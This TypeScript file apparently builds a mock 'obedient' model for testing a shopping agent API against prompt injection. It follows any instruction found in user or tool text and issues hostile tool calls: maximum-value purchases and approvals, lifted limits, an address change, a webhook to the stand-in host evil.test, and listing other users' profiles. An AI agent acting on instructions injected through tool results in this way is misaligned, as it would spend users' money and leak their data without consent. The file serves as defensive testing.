import type { Called } from './behavior.ts'
import { type Conversation, parsed, type Thought } from './conversation.ts'

/** It obeys no more than this at once, as models that are real do. */
const callsMax = 8

/**
 * What every text in a conversation tells it to do, whoever wrote it: the user, a shop, a review. It calls what they name, with what they
 * give or with ids of its own, and says what they want said. The same call is made once, so that a run ends.
 */
export function obey({ messages, tools }: Conversation): Thought {
  const told = messages.filter(({ role }) => role === 'user' || role === 'tool')
  const called = new Set(messages.flatMap(({ calls }) => calls.map(keyOf)))
  const texts = told.flatMap(({ text }) => [text, unescaped(text)])
  const named = [foundIn(texts), invented]
  const fresh = new Map<string, { name: string; args: string }>()
  for (const call of texts.flatMap((text) => [...namedCalls(text, tools), ...meantCalls(text, named)])) {
    const key = keyOf({ name: call.name, args: parsed(call.args) })
    if (!called.has(key)) fresh.set(key, call)
  }
  const say = [...new Set(texts.flatMap(toldToSay))].slice(-8).join(' ')
  return { say: say === '' ? 'Done.' : say, calls: [...fresh.values()].slice(0, callsMax) }
}

function keyOf({ name, args }: Called): string {
  return `${name} ${JSON.stringify(args)}`
}

/** Results of tools are JSON, in which sentences are escaped. */
function unescaped(text: string): string {
  return text.replaceAll('\\"', '"').replaceAll('\\n', '\n')
}

/** "call v1_x with {…}", "use the tool v1_x", and every other name of a tool. */
function namedCalls(text: string, tools: readonly string[]): { name: string; args: string }[] {
  const named = [...text.matchAll(/\b(?:v1_[a-z0-9_]+|[a-z]+_[a-z0-9_]+)\b/g)].filter(
    ({ 0: name, index }) => name.startsWith('v1_') || tools.includes(name) || isAfterVerb(text, index),
  )
  return named.map(({ 0: name, index }) => ({ name, args: objectAfter(text, index + name.length) ?? '{}' }))
}

function isAfterVerb(text: string, at: number): boolean {
  return /\b(?:call|use|run|invoke|execute)(?: the)?(?: tool| function)? [`"']?$/i.test(
    text.slice(Math.max(0, at - 40), at),
  )
}

/** The JSON object that begins within a few words. */
function objectAfter(text: string, from: number): string | null {
  const start = text.indexOf('{', from)
  if (start < 0 || start - from > 40) return null
  let depth = 0
  for (let at = start; at < Math.min(text.length, start + 4_000); at++) {
    if (text[at] === '{') depth++
    if (text[at] === '}') depth--
    if (depth === 0) return text.slice(start, at + 1)
  }
  return null
}

/** Ids by their prefix, and `url`: what it has read, or what nothing has. */
type Named = (kind: string) => string

const everything = 99_999_999

/** What words ask for, in the languages of the product, with the tool that would do it, in the form that this takes. */
const meant: readonly (readonly [RegExp, string, (id: Named) => object])[] = [
  [
    /\b(?:buy|order|purchase|kauf\w*|bestell\w*|achet\w*|command\w*|compra\w*|pide)\b|買って|購入|注文/i,
    'v1_create_purchase_intent',
    (id) => ({
      profile_id: id('prof'),
      items: [{ url: id('url'), quantity: 9, expected_amount: everything, expected_currency: 'USD' }],
    }),
  ],
  [
    /\b(?:approv\w*|confirm\w*|genehmig\w*|bestätig\w*|approuv\w*|confirme\w*|aprueb\w*|aprob\w*)|承認/i,
    'v1_approve_purchase_intent',
    (id) => ({ purchase_intent_id: id('pi'), approve: true, max_allowed_amount: everything }),
  ],
  [
    /\b(?:accept|annehm|nimm|accepte|acept)\w*|承諾/i,
    'v1_accept_quote',
    (id) => ({ quote_id: id('quo'), offer_id: id('offer'), profile_id: id('prof') }),
  ],
  [
    /\b(?:address|adresse|dirección|direccion|ship to)\b|住所/i,
    'v1_update_profile_address',
    (id) => ({ profile_id: id('prof'), address_id: id('addr'), line1: '1 Evil Street' }),
  ],
  [
    /\b(?:limit|budget|policy|policies|richtlinie|plafond|límite|limite)\b|上限/i,
    'v1_update_policy',
    (id) => ({ policy_id: id('pol'), currency: 'USD', limits: { per_transaction_max: everything } }),
  ],
  [
    /\b(?:webhook|destination|forward|weiterleit\w*|send (?:it|them|everything) to)\b/i,
    'v1_create_event_destination',
    (id) => ({ name: 'Mine', event_types: ['purchase_intent.*'], webhook: { endpoint_url: id('url') } }),
  ],
  [
    /\b(?:cancel|storni\w*|annul\w*|cancela\w*)\b|キャンセル/i,
    'v1_cancel_purchase_intent',
    (id) => ({ purchase_intent_id: id('pi') }),
  ],
  [
    /\b(?:cancel|storni\w*|annul\w*|cancela\w*)\b|キャンセル/i,
    'v1_cancel_order',
    (id) => ({ order_id: id('ord'), reason: 'I was told to' }),
  ],
  [/\b(?:other|another|all) (?:profile|person|user)s?\b/i, 'v1_list_profiles', () => ({})],
  [/\bhttps?:\/\/\S+/i, 'fetch', (id) => ({ url: id('url') })],
  [/\b(?:un)?freeze\b/i, 'v1_unfreeze_controls', () => ({ target: { type: 'account' } })],
]

const invented: Named = (kind) => (kind === 'url' ? 'https://evil.test/item' : `${kind}_${'0'.repeat(26)}`)

/** The last of each kind that any text named, the ids that work included. */
function foundIn(texts: readonly string[]): Named {
  const all = texts.join('\n')
  return (kind) => {
    const pattern =
      kind === 'url' ? /https?:\/\/[^\s"'\\<>)]+/g : new RegExp(`\\b${kind}_[0-9a-z]{20,40}\\b`, 'g')
    return all.match(pattern)?.at(-1) ?? invented(kind)
  }
}

function meantCalls(text: string, named: readonly Named[]): { name: string; args: string }[] {
  return meant
    .filter(([pattern]) => pattern.test(text))
    .flatMap(([, name, argsOf]) => named.map((id) => ({ name, args: JSON.stringify(argsOf(id)) })))
}

/** "Say that it costs …", "tell the user …", and every sentence that names money: it repeats them all. */
function toldToSay(text: string): string[] {
  const asked = text.matchAll(
    /\b(?:say|tell (?:the )?(?:user|person|buyer|them|him|her)|answer|write|reply|sag\w*|dis|di|dile)(?: that| dass| que|:)? "?([^."\n]{3,200}(?:\.\d+[^."\n]{0,60})?)/gi,
  )
  const money = text.matchAll(/[^.\n"]{0,100}(?:[$€£¥￥]|EUR|USD|euros?|dollars?|円)[^\n"]{0,60}/gi)
  return [...asked].map(([, words]) => words ?? '').concat([...money].map(([words]) => words.trim()))
}
